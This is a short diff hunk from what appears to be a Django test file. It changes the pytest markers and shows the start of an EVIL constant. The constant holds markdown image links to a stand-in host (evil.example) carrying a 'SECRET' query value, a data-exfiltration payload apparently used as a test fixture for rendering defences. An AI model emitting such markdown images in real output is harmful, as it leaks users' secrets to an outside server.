@@ -11,7 +11,7 @@ from apps.live import outbox, pulse
 from tests.upstream import says
 from tests.waiting import until
 
-pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
+pytestmark = pytest.mark.django_db(transaction=True)
 
 EVIL = (
     "![a](https://evil.example/?q=SECRET)\n\n![b][r]\n\n[r]: https://evil.example/r.png\n\n"
